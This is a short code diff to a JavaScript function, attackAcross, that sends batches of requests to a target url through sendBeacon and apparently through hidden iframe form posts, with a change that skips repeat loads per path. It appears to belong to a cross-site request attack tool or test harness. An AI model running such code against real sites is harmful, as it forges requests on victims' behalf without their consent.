@@ -68,9 +68,11 @@ export async function attackAcross({ url, requests }) {
       form.submit();
       return loaded.then(() => [frame, form].forEach((element) => element.remove()));
     });
+  const loaded = new Set();
   for (const { path, body } of requests) {
     navigator.sendBeacon(url + path, body);
-    await Promise.all([...tries(path, body), ...loads(path), ...posts(path, body)]);
+    await Promise.all([...tries(path, body), ...(loaded.has(path) ? [] : loads(path)), ...posts(path, body)]);
+    loaded.add(path);
   }
   return read;
 }
